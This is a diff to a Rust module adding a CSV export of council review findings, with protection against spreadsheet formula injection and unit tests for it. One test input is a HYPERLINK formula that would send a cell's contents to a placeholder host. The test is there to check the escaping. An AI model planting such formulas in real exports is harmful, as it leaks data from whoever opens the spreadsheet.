@@ -70,3 +70,63 @@ pub fn rows<'a>(documents: impl IntoIterator<Item = (&'a str, &'a Document, &'a 
     }
     out
 }
+
+/// The columns of a CSV export, in order.
+pub const CSV_HEADER: [&str; 18] = [
+    "council", "gss_code", "region", "review_type", "review_year", "service", "doc_kind", "kind", "themes", "text", "section", "points_to", "title", "source", "start", "end", "confidence", "document_id",
+];
+
+/// What a spreadsheet reads as a formula when a cell starts with it (OWASP's list).
+const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell a spreadsheet shows as the text it is: one starting like a formula gets a leading
+/// apostrophe, so `=HYPERLINK(…)` in a stranger's title is never run by the researcher who
+/// opens the export.
+pub fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+impl FindingRow {
+    /// The row as CSV cells, in [`CSV_HEADER`]'s order, every text made safe for a
+    /// spreadsheet ([`spreadsheet_text`]); numbers as numbers.
+    pub fn csv_record(&self) -> [String; 18] {
+        let t = |s: &str| spreadsheet_text(s).into_owned();
+        [
+            t(&self.council),
+            t(&self.gss_code),
+            t(&self.region),
+            t(&self.review_type),
+            self.review_year.map(|y| y.to_string()).unwrap_or_default(),
+            t(&self.service),
+            t(&self.doc_kind),
+            t(&self.kind),
+            t(&self.themes),
+            t(&self.text),
+            t(&self.section),
+            t(&self.points_to),
+            t(&self.title),
+            t(&self.source),
+            self.start.to_string(),
+            self.end.to_string(),
+            self.confidence.to_string(),
+            t(&self.document_id),
+        ]
+    }
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_start_like_formulas_are_shown_as_text() {
+        for bad in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(spreadsheet_text(bad).starts_with('\''), "{bad:?}");
+        }
+        assert_eq!(spreadsheet_text("Carers are valued."), "Carers are valued.");
+    }
+}
